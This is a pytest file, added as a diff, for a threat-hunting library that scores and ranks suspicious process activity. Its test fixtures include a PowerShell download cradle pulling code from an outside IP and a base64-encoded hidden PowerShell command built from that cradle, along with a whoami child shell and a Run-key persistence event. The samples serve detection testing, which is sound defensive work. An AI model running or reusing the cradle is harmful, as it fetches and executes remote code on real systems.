@@ -1,0 +1,74 @@
+"""Triage: scoring signals with reasons, and the rank order."""
+
+import base64
+
+import pandas as pd
+
+from hunting_lib.hunt import run_hunt
+from hunting_lib.params import HuntParams
+from hunting_lib.triage import default_scoring, rank
+from tests.conftest import activity, task_start, typed
+
+PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.34/a')"
+ENCODED = "powershell.exe -nop -w hidden -enc " + base64.b64encode(CRADLE.encode("utf-16-le")).decode()
+
+
+def hunt(processes, **tables):
+    frames = {"DeviceProcessEvents": typed("DeviceProcessEvents", processes)}
+    frames.update({name: typed(name, rows) for name, rows in tables.items()})
+    return run_hunt(frames, HuntParams(exclusions=None))
+
+
+def reasons_of(result, file_name):
+    row = result.rare_tasks[result.rare_tasks["FileName"] == file_name].iloc[0]
+    return set(row["Reasons"]), row
+
+
+def test_command_line_signals_use_the_decoded_text():
+    result = hunt([task_start("powershell.exe", ENCODED, PS, account="system")])
+    reasons, row = reasons_of(result, "powershell.exe")
+    assert {"encoded_command", "download_cradle", "hidden_or_bypass", "url_in_arguments",
+            "lolbin", "system_account", "single_device"} <= reasons
+    assert "user_writable_path" not in reasons
+    assert row["DecodedCommand"] == CRADLE
+    assert row["Score"] == sum(default_scoring().weights[r] for r in row["Reasons"])
+    assert all(row[r] for r in row["Reasons"])  # every reason is also a column
+
+
+def test_activity_signals():
+    task = ("upd.exe", "upd.exe", r"C:\Users\bob\AppData\Roaming\upd.exe")
+    child = task_start("cmd.exe", "cmd.exe /c whoami", r"C:\Windows\System32\cmd.exe", pid=8)
+    child.update(InitiatingProcessFileName=task[0], InitiatingProcessCommandLine=task[1],
+                 InitiatingProcessFolderPath=task[2], InitiatingProcessId=4000)
+    result = hunt(
+        [task_start(*task, account="bob"), child],
+        DeviceNetworkEvents=[activity(*task, RemoteIP="10.0.0.5"), activity(*task, RemoteIP="185.100.87.3")],
+        DeviceRegistryEvents=[activity(*task, action="RegistryValueSet",
+                                       RegistryKey=r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run")],
+        DeviceImageLoadEvents=[activity(*task, action="ImageLoaded", FileName="x.dll",
+                                        FolderPath=r"C:\Users\bob\AppData\Local\Temp\x.dll")],
+    )
+    reasons, _ = reasons_of(result, "upd.exe")
+    assert {"public_ip", "persistence_registry", "user_writable_image_load", "child_shell",
+            "user_writable_path", "single_device"} <= reasons
+    assert "system_account" not in reasons and "lolbin" not in reasons
+
+
+def test_private_addresses_and_system_dll_loads_are_not_signals():
+    task = ("agent.exe", "agent.exe", r"C:\Program Files\Agent\agent.exe")
+    result = hunt([task_start(*task, device=d, pid=i, account="svc") for i, d in enumerate(["a", "b"])],
+                  DeviceNetworkEvents=[activity(*task, pid=0, device="a", RemoteIP="192.168.1.10")],
+                  DeviceImageLoadEvents=[activity(*task, pid=0, device="a", action="ImageLoaded",
+                                                  FolderPath=r"C:\Windows\System32\ntdll.dll")])
+    reasons, row = reasons_of(result, "agent.exe")
+    assert reasons == set() and row["Score"] == 0
+
+
+def test_rank_puts_suppressed_last_and_orders_by_score():
+    frame = pd.DataFrame({
+        "FileName": ["a", "b", "c", "d"], "ProcessCommandLine": ["a", "b", "c", "d"], "FolderPath": ["a"] * 4,
+        "Count": [1, 2, 1, 1], "DeviceCount": [1, 1, 1, 1],
+        "Score": [3.0, 9.0, 12.0, 3.0], "SuppressedBy": [None, None, "rule", None],
+    })
+    assert rank(frame)["FileName"].tolist() == ["b", "a", "d", "c"]
